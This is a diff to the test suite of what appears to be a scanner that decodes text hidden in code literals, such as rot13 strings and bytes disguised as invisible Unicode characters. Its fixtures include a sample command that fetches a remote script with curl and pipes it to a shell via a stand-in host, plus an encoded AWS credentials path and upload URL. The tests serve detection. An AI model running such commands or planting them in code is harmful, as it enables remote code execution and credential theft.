@@ -33,6 +33,13 @@ describe('texts hidden in literals', () => {
     expect(texts('msg = "Run curl to fetch the file, then check its hash."')).toEqual([]);
   });
 
+  it('decodes rot13 literals that hold a URL or a credential path, not words that happen to read as a host', () => {
+    const texts = decodedTexts('U = "uggcf://hcybnq.rknzcyr.arg/i1".translate(T)\nF = ["~/.njf/perqragvnyf"]\nS = "cebzcg.net"\n').map((d) => d.text);
+    expect(texts).toContain('https://upload.example.net/v1');
+    expect(texts).toContain('~/.aws/credentials');
+    expect(decodedTexts("style = {'prompt.arg': 'bold', 'prompt.arg.text': ''}\n").map((d) => d.text)).toEqual([]);
+  });
+
   it('decodes bytes written as invisible characters: variation selectors and Unicode tags', () => {
     const cmd = "require('child_process').exec('curl -s http://x.example/a | sh')";
     const selectors = [...Buffer.from(cmd)].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
